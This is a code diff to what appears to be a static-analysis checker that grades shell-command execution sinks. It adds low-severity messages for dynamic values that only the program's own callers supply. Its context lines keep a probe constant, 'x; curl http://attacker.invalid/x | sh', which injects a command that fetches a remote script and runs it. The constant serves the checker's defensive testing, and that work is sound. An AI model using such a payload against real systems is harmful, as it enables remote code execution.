@@ -3,7 +3,7 @@ import { classifyCommand } from '../../policy/commands.js';
 import type { Action } from '../../policy/types.js';
 import type { FileFacts, Value } from '../facts.js';
 import { constant, constString, dictGet, fillHoleMarkers, joinValues, sanitizersOf, skeleton, taintOf, unknown } from '../values.js';
-import { calleeText, configuredValue, fillHoles, notAllowlisted, quote, severityForTaint, taintPhrase, traceOf, unsanitized } from './common.js';
+import { calleeText, configuredValue, EVERY_CALLER_OWN, fillHoles, notAllowlisted, ownAtEveryCall, quote, severityForTaint, taintPhrase, traceOf, unsanitized } from './common.js';
 import type { Check, CheckContext, SinkHit } from './types.js';
 
 export const COMMAND_PAYLOAD = 'x; curl http://attacker.invalid/x | sh';
@@ -186,6 +186,9 @@ export const commandShell: Check = {
           action,
         };
       }
+      if (!taints.length && !raw.length && ownAtEveryCall(ctx, v)) {
+        return { message: `\`${callee}\` runs a shell command line built from dynamic values; ${EVERY_CALLER_OWN}; pass an argv list without a shell where you can.`, severity: 'low', action };
+      }
       return {
         message: `\`${callee}\` runs a shell command line built from ${from}${quoted ? ' (shell-quoted)' : ''}; pass an argv list without a shell instead.`,
         // a whole line a caller passes in (`def run(cmd)`) keeps the rule's severity: it runs anything it is given
@@ -215,6 +218,9 @@ export const commandShell: Check = {
     }
     if (!taints.length && shape.args.every((a) => ctx.fixed(a))) {
       return { message: `\`${callee}\` starts \`${program}\` with arguments from the program's own constants: ${verdict.reason ?? 'a shell'}`, severity: 'low', action };
+    }
+    if (!taints.length && shape.args.every((a) => ctx.fixed(a) || ctx.own?.(a)) && shape.args.some((a) => ownAtEveryCall(ctx, a))) {
+      return { message: `\`${callee}\` starts \`${program}\` with dynamic arguments: ${verdict.reason ?? 'a shell'}; ${EVERY_CALLER_OWN}.`, severity: 'low', action };
     }
     // the verdict was reached with hostile arguments; say what the program does, not what the probe was
     const what =
@@ -257,6 +263,13 @@ export const commandDynamic: Check = {
       if (!taints.length && taintOf(shape.program).length && configuredValue(shape.program)) {
         return {
           message: `\`${callee}\` starts a program named by the settings the object was made with; no tool parameter, model output or request input reaches it, so it is graded low; make sure only deliberate configuration chooses it.`,
+          severity: 'low',
+          action: { kind: 'exec', command: '/tmp/agentos_probe', args: [] },
+        };
+      }
+      if (!taints.length && ownAtEveryCall(ctx, shape.program)) {
+        return {
+          message: `\`${callee}\` starts a program whose name is not a constant; ${EVERY_CALLER_OWN}; make sure only deliberate configuration chooses it.`,
           severity: 'low',
           action: { kind: 'exec', command: '/tmp/agentos_probe', args: [] },
         };
